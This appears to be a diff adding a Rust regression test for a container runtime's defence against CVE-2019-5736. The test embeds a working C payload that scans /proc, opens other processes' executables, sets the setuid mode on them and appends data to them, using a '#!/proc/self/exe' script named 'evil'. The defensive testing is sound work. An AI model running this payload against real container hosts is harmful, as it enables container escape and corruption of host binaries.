@@ -1,0 +1,189 @@
+//! CVE-2019-5736: somebody in a container gets hold of the program that starts processes there, and changes its file
+//! on the host as soon as nobody executes it. Tried with a new process and with one that joins. Needs root.
+#![allow(clippy::unwrap_used)] // A broken fixture is a failed test.
+
+mod common;
+
+use common::{compile, prepare, until_logged};
+use testkit::Sandbox;
+
+/// Opens the program file of every process that it sees, unless it is the image's own or empty. Tries to change its
+/// mode at once, and to write to it until `/stop` exists. Prints what works.
+const TAKE: &str = r#"
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static int is(struct stat *a, struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
+int main(int count, char **words) {
+    /* As the interpreter of a script. */
+    if (count > 1) return 3;
+    setvbuf(stdout, 0, _IOLBF, 0);
+    struct stat self, box, found;
+    stat("/proc/self/exe", &self), stat("/bin/busybox", &box);
+    int taken[64], number = 0;
+    puts("watches");
+    while (access("/stop", F_OK)) {
+        char path[64];
+        DIR *all = opendir("/proc");
+        for (struct dirent *entry; (entry = readdir(all));) {
+            if (atoi(entry->d_name) <= 0) continue;
+            snprintf(path, 64, "/proc/%d/exe", atoi(entry->d_name));
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) continue;
+            fstat(fd, &found);
+            if (number == 64 || !found.st_size || is(&found, &self) || is(&found, &box)) { close(fd); continue; }
+            puts("opened");
+            if (!fchmod(fd, 04777)) puts("changed its mode");
+            taken[number++] = fd;
+        }
+        closedir(all);
+        for (int i = 0; i < number; i++) {
+            snprintf(path, 64, "/proc/self/fd/%d", taken[i]);
+            int fd = open(path, O_WRONLY | O_APPEND);
+            if (fd >= 0 && write(fd, "damaged", 7) == 7) puts("written");
+            if (fd >= 0) close(taken[i]), close(fd), taken[i--] = taken[--number];
+        }
+    }
+    puts("ends");
+}
+"#;
+
+/// A sandbox with a copy of the program in `bin`, and a script `evil` for the interpreter `/proc/self/exe` in `tree`, a
+/// root file system.
+fn sandbox() -> Sandbox {
+    let sandbox = Sandbox::with_busybox();
+    compile(&sandbox, "take", TAKE);
+    sandbox
+        .sh("mkdir -p bin tree/bin tree/dev tree/proc tree/sys
+            strip -o bin/ns-exec \"$(command -v ns-exec)\" && sha256sum < bin/ns-exec > sum
+            cp /bin/busybox tree/bin && ln -s busybox tree/bin/sh
+            printf '#!/proc/self/exe\n' > tree/bin/evil && chmod 755 tree/bin/evil")
+        .ok();
+    sandbox
+}
+
+/// Starts the container `web`, which watches, and has the script.
+#[track_caller]
+fn watch(sandbox: &Sandbox, flags: &str) {
+    prepare(sandbox, "busybox");
+    sandbox.sh("cp -p tree/bin/evil root/containers/web/rootfs/bin/").ok();
+    sandbox.sh(&format!("bin/ns-exec -d {flags} -v /run/take:/take -- /take < ready.json > run.json")).ok();
+    until_logged(sandbox, "watches");
+}
+
+/// What the container could do.
+#[track_caller]
+fn taken(sandbox: &Sandbox) -> String {
+    sandbox.sh("touch root/containers/web/rootfs/stop").ok();
+    until_logged(sandbox, "ends");
+    sandbox.sh("sort -u \"$(container-ls --format {log} -- web)\"; unwind web > /dev/null").ok()
+}
+
+const NOTHING: &str = "ends\nwatches\n";
+
+/// Asserts that the program, and every file that it had before an upgrade, is as it was.
+#[track_caller]
+fn assert_whole(sandbox: &Sandbox) {
+    let whole = "for f in bin/*; do sha256sum < $f | cmp - sum && stat -c %a $f || exit 1; done | sort -u";
+    assert_eq!(sandbox.sh(whole).ok(), "755\n");
+}
+
+/// The container's flags, and how a process is started for the script: a new one, which shares the container's processes,
+/// and one that joins. Then the status and the error.
+const WAYS: [(&str, &str, &str); 3] = [
+    (
+        "",
+        "bin/ns-exec -n --id new --rootfs tree --pid container:web -- /bin/evil; s=$?; unwind -q new > /dev/null",
+        "126 ns-exec: execute \"/bin/evil\": Exec format error\n",
+    ),
+    // The container's own program is the interpreter here.
+    ("", "bin/ns-exec --join web -- /bin/evil; s=$?", "3 "),
+    ("--cap-add SYS_PTRACE", "bin/ns-exec --join web -- /bin/evil; s=$?", "3 "),
+];
+
+/// Starts a process for the script some times, with `meanwhile` at the same time.
+#[track_caller]
+fn start(sandbox: &Sandbox, way: &str, expected: &str, meanwhile: &str) {
+    std::fs::write(sandbox.directory().join("start"), format!("{way}\nprintf '%s ' $s")).unwrap();
+    let script = format!(
+        "for i in $(seq 12); do timeout 20 sh start > told 2>&1 & {meanwhile} wait $!; cat told; done"
+    );
+    // The error comes before the status.
+    let (status, error) = expected.split_once(' ').unwrap();
+    let once = format!("{error}{status} ");
+    assert_eq!(sandbox.sh(&script).ok(), once.repeat(12), "{way}");
+}
+
+#[test]
+fn the_program_of_the_host_cannot_be_had() {
+    let sandbox = sandbox();
+    for (flags, way, expected) in WAYS {
+        watch(&sandbox, flags);
+        start(&sandbox, way, expected, "");
+        assert_eq!(taken(&sandbox), NOTHING, "{flags} {way}");
+        assert_whole(&sandbox);
+    }
+}
+
+/// A new process has the rights of the host's root until it has made its surroundings.
+#[test]
+fn no_process_is_born_among_those_that_may_trace_it() {
+    let sandbox = Sandbox::with_busybox();
+    let start = |id: &str, flags: &str| {
+        sandbox.sh(&format!(
+            "layer-apply --id {id} < busybox.json | union-mount | ns-exec -d {flags} -- sleep 1000 > {id}.json"
+        ))
+    };
+    let refused = |of: &str| {
+        let refused = start("new", "--pid container:web").exits(125);
+        let line = format!(
+            "ns-exec: share processes with container \"{of}\": it has CAP_SYS_PTRACE, and could take over the new process before the command runs"
+        );
+        let hint = "hint: start that container without --cap-add SYS_PTRACE";
+        assert_eq!(refused.stderr, format!("{line}\n{hint}\n"));
+        sandbox.sh("unwind -q new > /dev/null").ok();
+    };
+    start("web", "--cap-add SYS_PTRACE").ok();
+    refused("web");
+    sandbox.sh("unwind -q web > /dev/null").ok();
+    // A debugger beside the container, and who comes after it.
+    start("web", "").ok();
+    start("debugger", "--cap-add SYS_PTRACE --pid container:web").ok();
+    refused("debugger");
+    sandbox.sh("unwind -q debugger > /dev/null").ok();
+    start("new", "--pid container:web").ok();
+    sandbox.sh("unwind -q new web > /dev/null").ok();
+    // This one is the host's root already.
+    start("web", "--privileged").ok();
+    start("new", "--pid container:web").ok();
+}
+
+#[test]
+fn the_program_of_the_host_cannot_be_had_while_it_is_upgraded() {
+    let sandbox = sandbox();
+    // The new file has another inode, and nobody executes the old one for long.
+    let upgrade = "ln bin/ns-exec bin/old.$i; cp bin/ns-exec bin/new && mv bin/new bin/ns-exec;";
+    for (flags, way, expected) in WAYS {
+        watch(&sandbox, flags);
+        start(&sandbox, way, expected, upgrade);
+        assert_eq!(taken(&sandbox), NOTHING, "{flags} {way}");
+        assert_eq!(sandbox.sh("ls bin | wc -l").ok(), "13\n");
+        assert_whole(&sandbox);
+        sandbox.sh("rm bin/old.*").ok();
+    }
+}
+
+/// A program that can be had is found and changed.
+#[test]
+fn the_watch_takes_what_it_can() {
+    let sandbox = sandbox();
+    watch(&sandbox, "");
+    sandbox.sh("ns-exec --join web -- sh -c 'cp /bin/busybox /tmp/sleep && /tmp/sleep 1'").ok();
+    let written = "until grep -q damaged root/containers/web/rootfs/tmp/sleep; do sleep 0.02; done";
+    sandbox.sh(&format!("timeout 10 sh -c '{written}'")).ok();
+    assert_eq!(taken(&sandbox), "changed its mode\nends\nopened\nwatches\nwritten\n");
+}
